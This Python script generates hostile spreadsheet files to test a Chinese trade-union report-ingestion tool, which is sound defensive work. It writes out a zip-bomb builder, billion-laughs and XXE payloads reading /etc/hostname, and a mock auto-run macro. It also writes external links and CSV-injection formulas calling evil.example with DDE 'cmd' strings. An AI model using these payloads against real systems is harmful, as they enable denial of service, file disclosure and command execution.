"""Generate the hostile-input corpus in tests/hostile/corpus/ (python tests/hostile/make_corpus.py).

Every workbook here is written by hand from its XML parts with fixed ZIP timestamps,
so regenerating gives the same bytes (the encrypted workbook excepted: LibreOffice
salts it). `CASES` is the single list of cases: the tests, the README and this
generator all read it.
"""

from __future__ import annotations

import csv
import io
import random
import shutil
import struct
import subprocess
import sys
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent
CORPUS = HERE / "corpus"
ZIP_DATE = (2019, 6, 1, 9, 0, 0)

# --- the small valid district ------------------------------------------------------------

ROSTER_HEADER = ["序号", "基层工会名称", "上级工会", "类别", "会员人数", "职工人数", "单位代码"]
ROSTER_ROWS = [
    [1, "长阳镇第一小学工会", "长阳镇总工会", "乡镇", 40, 45, "A1"],
    [2, "长阳镇卫生院工会", "长阳镇总工会", "乡镇", 60, 70, "A2"],
    [3, "北京长阳建材有限公司工会委员会", "长阳镇总工会", "乡镇", 100, 120, "A3"],
    [4, "琉璃河镇中心小学工会", "琉璃河镇总工会", "乡镇", 30, 30, "B1"],
    [5, "区教委机关工会", "区教委工会", "系统", 50, 55, "C1"],
    [6, "房山区实验中学工会", "区教委工会", "系统", 20, 25, "C2"],
    [7, "北京燕房物流有限公司工会", "", "直属", 30, 40, "D1"],
]
TABLE_HEADER = ["序号", "基层工会名称", "活动日期", "工作类别", "活动形式", "参加人数", "备注"]
TITLE = "学习宣传贯彻北京市工会第十四次代表大会精神活动情况统计表"

# The one valid submission every hostile run carries; its rows must never change.
VALID_FILE = "submissions/长阳镇总工会_第一阶段.xlsx"
VALID_ROWS = [
    [1, "长阳镇第一小学工会", "2019-06-03", "切实抓好学习", "理论中心组学习", 40, None],
    [2, "长阳镇卫生院工会", "2019-06-10", "加强宣讲培训", "宣讲", 55, None],
    [3, "北京长阳建材有限公司工会委员会", "2019-06-12", "精心组织宣传", "微信", 100, None],
    [4, "本级", "2019-06-20", "做好相关资料上报", "信息图片", 5, None],
]


def header_block(
    unit: str,
    report_date: str,
    round_label: str | None = None,
    contact: str = "赵测试",
    phone: str = "13800000000",
) -> list[list]:
    """Title and header block rows as the template has them ("填报单位：…" in one cell)."""
    rows: list[list] = [[TITLE]]
    line = [f"填报单位：{unit}", None, f"填报日期：{report_date}"]
    if round_label:
        line += [None, f"报送期次：{round_label}"]
    rows.append(line)
    rows.append([f"联系人：{contact}", None, f"联系电话：{phone}"])
    return rows


def submission_rows(
    unit: str, report_date: str, rows: list[list], round_label=None, **contact
) -> list[list]:
    """A whole submission sheet: title, header block, table header, `rows`."""
    return header_block(unit, report_date, round_label, **contact) + [TABLE_HEADER] + rows


# --- minimal OOXML writer -----------------------------------------------------------------

NS_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
NS_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CT_XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
CT_XLSM = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
CT_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"


@dataclass(frozen=True)
class Formula:
    """A formula cell; `cached` is the value the file stores (None: no cached value)."""

    text: str
    cached: object = None


def col_letters(index: int) -> str:
    """0-based column index -> letters (0 -> A, 16383 -> XFD)."""
    letters = ""
    index += 1
    while index:
        index, rem = divmod(index - 1, 26)
        letters = chr(65 + rem) + letters
    return letters


def _esc(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def cell_xml(ref: str, value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, Formula):
        cached = "" if value.cached is None else f"<v>{value.cached}</v>"
        kind = ' t="str"' if isinstance(value.cached, str) else ""
        return f'<c r="{ref}"{kind}><f>{_esc(value.text)}</f>{cached}</c>'
    if isinstance(value, bool | int | float):
        return f'<c r="{ref}"><v>{value}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t>{_esc(str(value))}</t></is></c>'


def rows_xml(rows: list[list], first_row: int = 1) -> str:
    out = []
    for i, row in enumerate(rows, start=first_row):
        cells = "".join(cell_xml(f"{col_letters(j)}{i}", v) for j, v in enumerate(row))
        out.append(f'<row r="{i}">{cells}</row>')
    return "".join(out)


def sheet_xml(
    rows: list[list], *, dimension: str | None = None, prolog: str = "", tail: str = ""
) -> str:
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{prolog}'
        f'<worksheet xmlns="{NS_MAIN}" xmlns:r="{NS_R}">{dim}'
        f"<sheetData>{rows_xml(rows)}{tail}</sheetData></worksheet>"
    )


def _zip(parts: dict[str, bytes | str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            info = zipfile.ZipInfo(name, ZIP_DATE)
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, data.encode("utf-8") if isinstance(data, str) else data)
    return buf.getvalue()


def xlsx_parts(
    sheet: str,
    *,
    macro: bool = False,
    extra_parts: dict[str, bytes | str] | None = None,
    extra_overrides: str = "",
    extra_workbook_rels: str = "",
    workbook_tail: str = "",
) -> dict[str, bytes | str]:
    """The parts of a one-sheet workbook ("Sheet1") whose worksheet XML is `sheet`."""
    main_ct = CT_XLSM if macro else CT_XLSX
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{main_ct}"/>'
            f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{CT_SHEET}"/>'
            f"{extra_overrides}</Types>"
        ),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{REL}/officeDocument" Target="xl/workbook.xml"/>'
            "</Relationships>"
        ),
        "xl/workbook.xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<workbook xmlns="{NS_MAIN}" xmlns:r="{NS_R}"><sheets>'
            '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets>'
            f"{workbook_tail}</workbook>"
        ),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{REL}/worksheet" Target="worksheets/sheet1.xml"/>'
            f"{extra_workbook_rels}</Relationships>"
        ),
        "xl/worksheets/sheet1.xml": sheet,
    }
    parts.update(extra_parts or {})
    return parts


def xlsx_bytes(rows: list[list], **kwargs) -> bytes:
    """A valid one-sheet workbook holding `rows` (strings inline, no styles)."""
    return _zip(xlsx_parts(sheet_xml(rows), **kwargs))


# --- zip bombs ----------------------------------------------------------------------------

# One row whose cell holds a run of one character: deflate codes it at distance 3
# with no extra bits, which gives the format's best ratio (about 1000).
BOMB_ROW = ('<row><c t="inlineStr"><is><t>' + "长" * 349_000 + "</t></is></c></row>").encode()


def zip_bomb(path: Path, uncompressed_bytes: int, declared_bytes: int | None = None) -> Path:
    """An .xlsx whose sheet XML expands to about `uncompressed_bytes` (ratio about 1000).

    Built in the time it takes to compress one 1 MiB chunk: after a full flush the
    compressor refers to nothing earlier, so that chunk's deflate bytes can simply be
    repeated. `declared_bytes` writes a lying size into the ZIP headers (the data
    still expands to `uncompressed_bytes`). Sizes stay below 4 GiB (no ZIP64).
    """
    head = sheet_xml([TABLE_HEADER]).split("</sheetData>")[0].encode()
    tail = b"</sheetData></worksheet>"
    chunk = BOMB_ROW
    count = max(1, uncompressed_bytes // len(chunk))
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    head_c = comp.compress(head) + comp.flush(zlib.Z_FULL_FLUSH)
    block = comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH)
    tail_c = comp.compress(tail) + comp.flush(zlib.Z_FINISH)
    crc = zlib.crc32(head)
    for _ in range(count):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    size = len(head) + len(chunk) * count + len(tail)
    stream = head_c + block * count + tail_c
    other = {k: v for k, v in xlsx_parts("").items() if k != "xl/worksheets/sheet1.xml"}
    members = [(k, v.encode() if isinstance(v, str) else v) for k, v in other.items()]
    data = _raw_zip(members, ("xl/worksheets/sheet1.xml", stream, crc, size, declared_bytes))
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def _raw_zip(
    members: list[tuple[str, bytes]], bomb: tuple[str, bytes, int, int, int | None]
) -> bytes:
    """A ZIP archive with ordinary deflated `members` and one pre-deflated `bomb` member."""
    out = io.BytesIO()
    central = []
    dos_time = (ZIP_DATE[3] << 11) | (ZIP_DATE[4] << 5) | (ZIP_DATE[5] // 2)
    dos_date = ((ZIP_DATE[0] - 1980) << 9) | (ZIP_DATE[1] << 5) | ZIP_DATE[2]
    entries = []
    for name, data in members:
        comp = zlib.compressobj(9, zlib.DEFLATED, -15)
        entries.append((name, comp.compress(data) + comp.flush(), zlib.crc32(data), len(data)))
    name, stream, crc, size, declared = bomb
    entries.append((name, stream, crc, declared if declared is not None else size))
    for name, stream, crc, size in entries:
        raw_name = name.encode()
        offset = out.tell()
        out.write(
            struct.pack(
                "<IHHHHHIIIHH",
                0x04034B50,
                20,
                0,
                8,
                dos_time,
                dos_date,
                crc,
                len(stream),
                size,
                len(raw_name),
                0,
            )
        )
        out.write(raw_name)
        out.write(stream)
        central.append(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                8,
                dos_time,
                dos_date,
                crc,
                len(stream),
                size,
                len(raw_name),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + raw_name
        )
    start = out.tell()
    for entry in central:
        out.write(entry)
    length = out.tell() - start
    out.write(
        struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), length, start, 0)
    )
    return out.getvalue()


# --- the cases ----------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    """One hostile input: where it sits under RAW, what it is, and what it must get.

    expect: "reject"      one file-level error Issue, no rows used;
            "read"        its rows read (accepted where valid), no file-level error;
            "read_warn"   as "read", plus at least one warning Issue for the file;
            "no_rows"     accounted for with at least one Issue, nothing accepted
                          (read-and-garbled or rejected are both acceptable);
            "read_or_reject"  either "read" or "reject", never a crash or garbage.
    keyword: a word the Chinese message must contain ("" for none).
    """

    name: str
    path: str  # relative to RAW
    expect: str
    what: str
    behaviour: str
    keyword: str = ""
    simulated: str = ""  # "vanish" / "locked": a valid file plus a simulated failure


L_FILE = "submissions/琉璃河镇总工会_第一阶段.xlsx"

CASES: tuple[Case, ...] = (
    Case("empty_csv", "submissions/空文件.csv", "reject", "a zero-byte .csv", "rejected: 空文件"),
    Case(
        "zero_byte_xlsx",
        "submissions/zero_byte.xlsx",
        "reject",
        "a zero-byte .xlsx",
        "rejected: 空文件",
    ),
    Case(
        "truncated_xlsx",
        "submissions/truncated.xlsx",
        "reject",
        "a valid .xlsx cut in half",
        "rejected: corrupt",
    ),
    Case(
        "random_xlsx",
        "submissions/random.xlsx",
        "reject",
        "4 KiB of random bytes named .xlsx",
        "rejected",
    ),
    Case(
        "random_xls",
        "submissions/random.xls",
        "reject",
        "4 KiB of random bytes named .xls",
        "rejected",
    ),
    Case(
        "random_ods",
        "submissions/random.ods",
        "reject",
        "4 KiB of random bytes named .ods",
        "rejected",
    ),
    Case(
        "docx_renamed",
        "submissions/活动通知.xlsx",
        "reject",
        "a Word .docx renamed .xlsx",
        "rejected: not a spreadsheet",
    ),
    Case(
        "password_xlsx",
        "submissions/加密报送表.xlsx",
        "reject",
        "an .xlsx with an open password: OLE2 file with EncryptionInfo + EncryptedPackage (built by hand)",
        "rejected: asks to remove the password",
        keyword="密码",
    ),
    Case(
        "password_xls",
        "submissions/加密报送表_旧版.xls",
        "reject",
        "an .xls saved by LibreOffice 7.4 with password 'secret' (BIFF8 FilePass, RC4)",
        "rejected: asks to remove the password",
        keyword="密码",
    ),
    Case(
        "zip_bomb",
        "submissions/zip_bomb.xlsx",
        "reject",
        "a 70 KB .xlsx whose sheet XML expands to 64 MiB of rows (ratio ~1000)",
        "rejected from the ZIP directory before any parsing, in well under a second",
    ),
    Case(
        "billion_laughs",
        "submissions/billion_laughs.xlsx",
        "reject",
        "sheet XML with a nested-entity DTD (10^9 'lol')",
        "rejected without expanding",
    ),
    Case(
        "xxe",
        "submissions/xxe.xlsx",
        "reject",
        "sheet XML with an external entity pointing at file:///etc/hostname",
        "rejected; the file's content never appears in any output",
    ),
    Case(
        "huge_dimension",
        "submissions/区教委工会_声明范围过大.xlsx",
        "read_or_reject",
        "a small valid table whose sheet declares <dimension ref='A1:XFD1048576'/>",
        "read (the declaration is only a hint) or rejected as too large; memory stays small",
    ),
    Case(
        "cell_at_xfd1048576",
        "submissions/cell_xfd1048576.xlsx",
        "reject",
        "a small table plus one cell at XFD1048576 (17 billion cells if made dense)",
        "rejected as too large (over max_rows_per_sheet) without allocating the grid",
    ),
    Case(
        "formulas_no_cache",
        "submissions/区教委工会_公式.xlsx",
        "read_warn",
        "participants as formulas: one with cached value 50, one without any cached value",
        "cached value used (50); the uncached one is missing, never the formula text; a warning",
    ),
    Case(
        "macro_external_link",
        "submissions/琉璃河镇总工会_宏与外部链接.xlsm",
        "read_warn",
        "an .xlsm with xl/vbaProject.bin and an externalLink to http://example.invalid/ and file:///etc/hostname",
        "nothing executed or fetched; rows read with cached values; a warning",
    ),
    Case(
        "csv_utf16",
        "submissions/琉璃河镇总工会_utf16.csv",
        "read_or_reject",
        "a CSV in UTF-16 LE with BOM (an r2 activity, so it supersedes nothing)",
        "read correctly (or rejected with a clear message)",
    ),
    Case(
        "csv_big5",
        "submissions/琉璃河镇总工会_big5.csv",
        "no_rows",
        "a CSV in Big5 (traditional script)",
        "no garbled row accepted; an Issue says why",
    ),
    Case(
        "csv_shift_jis",
        "submissions/琉璃河镇总工会_sjis.csv",
        "no_rows",
        "a CSV in Shift-JIS",
        "no garbled row accepted; an Issue says why",
    ),
    Case(
        "chinese_path",
        "submissions/第二 阶段/长阳镇 总工会 (更正).xlsx",
        "read",
        "a valid r2 submission under a path with Chinese characters, spaces and brackets",
        "read; every row accepted; the file column shows the path relative to RAW",
    ),
    Case(
        "vanishing_file",
        L_FILE,
        "reject",
        "a valid file deleted after the folder was listed (simulated)",
        "rejected with a Chinese message; the run goes on",
        simulated="vanish",
    ),
    Case(
        "locked_file",
        L_FILE,
        "reject",
        "a valid file another program holds open (PermissionError, simulated)",
        "rejected; the message says to close it in Excel/WPS and re-run",
        keyword="关闭",
        simulated="locked",
    ),
    Case(
        "formula_text",
        "submissions/区教委工会_第三阶段_公式文本.csv",
        "read_warn",
        "an r3 CSV whose title, contact, phone, union name, work item, form and 备注 begin "
        "with = + - @ (HYPERLINK, DDE)",
        "read as text (a warning for each unknown form); every CSV written escapes them "
        "with a leading ' so Excel never evaluates them",
    ),
)
CASES_BY_NAME = {c.name: c for c in CASES}


# --- building the files -------------------------------------------------------------------


def l_rows() -> list[list]:
    """A valid r1 submission of 琉璃河镇总工会 (used by the vanishing and locked cases)."""
    return submission_rows(
        "琉璃河镇总工会",
        "2019-07-02",
        [[1, "琉璃河镇中心小学工会", "2019-06-05", "切实抓好学习", "讨论会", 30, None]],
    )


def _docx() -> bytes:
    body = "<w:p><w:r><w:t>关于开展学习宣传活动的通知</w:t></w:r></w:p>"
    return _zip(
        {
            "[Content_Types].xml": (
                '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                '<Default Extension="xml" ContentType="application/xml"/>'
                '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
                "</Types>"
            ),
            "_rels/.rels": (
                '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f'<Relationship Id="rId1" Type="{REL}/officeDocument" Target="word/document.xml"/></Relationships>'
            ),
            "word/document.xml": (
                '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                f"<w:body>{body}</w:body></w:document>"
            ),
        }
    )


def _laughs_sheet() -> str:
    ents = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    ]
    prolog = f"<!DOCTYPE worksheet [{''.join(ents)}]>\n"
    return sheet_xml(
        [TABLE_HEADER],
        prolog=prolog,
        tail='<row r="2"><c r="B2" t="inlineStr"><is><t>&lol9;</t></is></c></row>',
    )


def xxe_sheet(target: str) -> str:
    """Sheet XML whose cell B5 is an external entity reading `target` (a file:// URL)."""
    prolog = f'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "{target}">]>\n'
    rows = header_block("长阳镇总工会", "2019-07-01") + [TABLE_HEADER]
    tail = (
        '<row r="5"><c r="A5"><v>1</v></c><c r="B5" t="inlineStr"><is><t>&xxe;</t></is></c></row>'
    )
    return sheet_xml(rows, prolog=prolog, tail=tail)


def _macro_workbook() -> bytes:
    rows = submission_rows(
        "琉璃河镇总工会",
        "2019-07-03",
        [
            [
                1,
                "琉璃河镇中心小学工会",
                "2019-06-06",
                "加强宣讲培训",
                "宣讲",
                Formula("[1]Sheet1!A1", 30),
                None,
            ],
            [2, "本级", "2019-06-07", "精心组织宣传", "微信", 12, None],
        ],
    )
    ext_link = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<externalLink xmlns="{NS_MAIN}" xmlns:r="{NS_R}"><externalBook r:id="rId1"><sheetNames>'
        '<sheetName val="Sheet1"/></sheetNames><sheetDataSet><sheetData sheetId="0"><row r="1">'
        '<cell r="A1"><v>30</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>'
    )
    ext_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{REL}/externalLinkPath" '
        'Target="http://example.invalid/stolen.xlsx" TargetMode="External"/>'
        f'<Relationship Id="rId2" Type="{REL}/externalLinkPath" '
        'Target="file:///etc/hostname" TargetMode="External"/></Relationships>'
    )
    vba = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b'Attribute VB_Name = "Module1"\nSub Auto_Open()\nShell "calc"\nEnd Sub\n' * 8
    )
    return _zip(
        xlsx_parts(
            sheet_xml(rows),
            macro=True,
            extra_parts={
                "xl/vbaProject.bin": vba,
                "xl/externalLinks/externalLink1.xml": ext_link,
                "xl/externalLinks/_rels/externalLink1.xml.rels": ext_rels,
            },
            extra_overrides=(
                '<Override PartName="/xl/externalLinks/externalLink1.xml" '
                'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>'
            ),
            extra_workbook_rels=(
                f'<Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
                f'<Relationship Id="rId3" Type="{REL}/externalLink" Target="externalLinks/externalLink1.xml"/>'
            ),
            workbook_tail='<externalReferences><externalReference r:id="rId3"/></externalReferences>',
        )
    )


def csv_text(rows: list[list]) -> str:
    return "".join(",".join("" if v is None else str(v) for v in row) + "\r\n" for row in rows)


L_CSV_ROWS = [
    TABLE_HEADER[:6],
    [1, "琉璃河镇中心小学工会", "2019-08-08", "精心组织宣传", "微信", 25],
]
BIG5_ROWS = [
    ["序號", "基層工會名稱", "活動日期", "工作類別", "活動形式", "參加人數"],
    [1, "琉璃河鎮中心小學工會", "2019-06-08", "精心組織宣傳", "微信", 25],
]
SJIS_ROWS = [
    ["番号", "労働組合名", "活動日", "作業区分", "活動形式", "参加者数"],
    [1, "瑠璃河鎮中心小学労組", "2019-06-08", "宣伝", "微信", 25],
]


def encrypted_ooxml(rng: random.Random) -> bytes:
    """A minimal OLE2 compound file holding EncryptionInfo and EncryptedPackage streams.

    This is the container Excel and WPS write for an .xlsx with an open password
    (ECMA-376 agile encryption). Both streams are made 4 KiB or more so that they
    live in ordinary 512-byte sectors (no mini stream is needed); the package is
    random bytes, as ciphertext looks.
    """
    sector = 512
    end, free, fat_sect = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    descriptor = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
        b'<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption" '
        b'xmlns:p="http://schemas.microsoft.com/office/2006/keyEncryptor/password">'
        b'<keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" '
        b'cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/>'
        b'<keyEncryptors><keyEncryptor uri="http://schemas.microsoft.com/office/2006/keyEncryptor/password">'
        b'<p:encryptedKey spinCount="100000" saltSize="16" blockSize="16" keyBits="256" hashSize="64" '
        b'cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512"/>'
        b"</keyEncryptor></keyEncryptors></encryption>"
    )
    info = struct.pack("<HHI", 4, 4, 0x40) + descriptor
    info += b"\0" * (4096 - len(info))
    package = struct.pack("<Q", 3000) + rng.randbytes(4096)
    package += b"\0" * (-len(package) % sector)
    info_start, info_n = 2, len(info) // sector
    pkg_start, pkg_n = info_start + info_n, len(package) // sector
    fat = [fat_sect, end]
    for start, n in ((info_start, info_n), (pkg_start, pkg_n)):
        fat += [start + i + 1 for i in range(n - 1)] + [end]
    fat += [free] * (sector // 4 - len(fat))

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        raw = (name + "\0").encode("utf-16-le")
        return (
            raw.ljust(64, b"\0")
            + struct.pack("<HBB", len(raw), kind, 1)
            + struct.pack("<III", free, right, child)
            + b"\0" * 16
            + b"\0" * 4
            + b"\0" * 16
            + struct.pack("<IQ", start, size)
        )

    directory = (
        entry("Root Entry", 5, 1, free, end, 0)
        + entry("EncryptionInfo", 2, free, 2, info_start, len(info))
        + entry("EncryptedPackage", 2, free, free, pkg_start, 3000 + 8)
        + b"\0" * 128
    )
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\0" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\0" * 6
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
        + struct.pack("<I", 0)
        + struct.pack("<I", free) * 108
    )
    return header + struct.pack(f"<{len(fat)}I", *fat) + directory + info + package


def csv_quoted(rows: list[list]) -> str:
    """CSV text as Excel saves it: CRLF, fields with commas or quotes quoted."""
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(
        [["" if v is None else v for v in row] for row in rows]
    )
    return buffer.getvalue()


# Text a spreadsheet program would run as a formula, in every free-text field (issue: CSV
# injection). Dated in r3 so that it supersedes none of 区教委工会's r1 files.
FORMULA_LINK = '=HYPERLINK("http://evil.example/","x")'
FORMULA_DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_ROWS = [
    [FORMULA_LINK],
    ["填报单位：区教委工会", None, "填报日期：2020-01-05"],
    ['联系人：=WEBSERVICE("http://evil.example/")', None, "联系电话：-1+1"],
    TABLE_HEADER,
    [1, "区教委机关工会", "2019-10-15", "切实抓好学习", FORMULA_LINK, 30, FORMULA_DDE],
    [2, "房山区实验中学工会", "2019-11-05", "+cmd|' /C calc'!A0", "-2+3", 20, "@x"],
    [3, "=1+2", "2019-11-20", "加强宣讲培训", "宣讲", 10, None],
]


def build_password_xls(path: Path) -> bool:
    """Save a small .xls with password 'secret' through LibreOffice (python3-uno); True if made."""
    script = HERE / "make_encrypted.py"
    soffice = shutil.which("soffice")
    if not soffice:
        return False
    proc = subprocess.run(
        ["/usr/bin/python3", str(script), str(path)], capture_output=True, text=True, timeout=180
    )
    if proc.returncode != 0:
        print(proc.stdout, proc.stderr, file=sys.stderr)
    return proc.returncode == 0 and path.exists()


def build(corpus: Path = CORPUS, password: bool = True) -> None:
    """Write every corpus file (the encrypted one only when LibreOffice is available)."""
    rng = random.Random(20190529)

    def put(rel: str, data: bytes) -> None:
        target = corpus / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)

    put(
        "roster/名册.xlsx",
        xlsx_bytes([["房山区基层工会名册（2019年5月）"], ROSTER_HEADER, *ROSTER_ROWS]),
    )
    valid = xlsx_bytes(submission_rows("长阳镇总工会", "2019-07-01", VALID_ROWS, "第一阶段"))
    put(VALID_FILE, valid)
    put("valid/琉璃河镇总工会_第一阶段.xlsx", xlsx_bytes(l_rows()))

    put(CASES_BY_NAME["empty_csv"].path, b"")
    put(CASES_BY_NAME["zero_byte_xlsx"].path, b"")
    put(CASES_BY_NAME["truncated_xlsx"].path, valid[: len(valid) // 2])
    for ext in ("xlsx", "xls", "ods"):
        put(CASES_BY_NAME[f"random_{ext}"].path, rng.randbytes(4096))
    put(CASES_BY_NAME["docx_renamed"].path, _docx())
    zip_bomb(corpus / CASES_BY_NAME["zip_bomb"].path, 64 << 20)
    put(CASES_BY_NAME["billion_laughs"].path, _zip(xlsx_parts(_laughs_sheet())))
    put(CASES_BY_NAME["xxe"].path, _zip(xlsx_parts(xxe_sheet("file:///etc/hostname"))))
    edu = [[1, "区教委机关工会", "2019-06-04", "切实抓好学习", "报告会", 50, None]]
    put(
        CASES_BY_NAME["huge_dimension"].path,
        _zip(
            xlsx_parts(
                sheet_xml(
                    submission_rows("区教委工会", "2019-07-01", edu), dimension="A1:XFD1048576"
                )
            )
        ),
    )
    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    put(
        CASES_BY_NAME["cell_at_xfd1048576"].path,
        _zip(xlsx_parts(sheet_xml(submission_rows("区教委工会", "2019-07-01", edu), tail=far))),
    )
    formulas = [
        [1, "区教委机关工会", "2019-06-04", "切实抓好学习", "报告会", Formula("10*5", 50), None],
        [2, "房山区实验中学工会", "2019-06-05", "加强宣讲培训", "宣讲", Formula("SUM(7,8)"), None],
    ]
    put(
        CASES_BY_NAME["formulas_no_cache"].path,
        xlsx_bytes(submission_rows("区教委工会", "2019-07-01", formulas)),
    )
    put(CASES_BY_NAME["macro_external_link"].path, _macro_workbook())
    put(CASES_BY_NAME["csv_utf16"].path, b"\xff\xfe" + csv_text(L_CSV_ROWS).encode("utf-16-le"))
    put(CASES_BY_NAME["csv_big5"].path, csv_text(BIG5_ROWS).encode("big5"))
    put(CASES_BY_NAME["csv_shift_jis"].path, csv_text(SJIS_ROWS).encode("shift_jis"))
    r2 = [
        [1, "长阳镇第一小学工会", "2019-07-15", "狠抓工作落实", "劳动竞赛", 35, None],
        [2, "长阳镇卫生院工会", "2019-08-01", "精心组织宣传", "微视频", 20, "更正后重报"],
    ]
    put(
        CASES_BY_NAME["chinese_path"].path,
        xlsx_bytes(submission_rows("长阳镇总工会", "2019-10-08", r2)),
    )
    put(CASES_BY_NAME["password_xlsx"].path, encrypted_ooxml(rng))
    put(CASES_BY_NAME["formula_text"].path, csv_quoted(FORMULA_ROWS).encode("utf-8-sig"))
    if password:
        target = corpus / CASES_BY_NAME["password_xls"].path
        if not build_password_xls(target) and not target.exists():
            print("LibreOffice not available: the encrypted .xls was not built", file=sys.stderr)


if __name__ == "__main__":
    build(password="--no-password" not in sys.argv)
    print(f"corpus written to {CORPUS}")
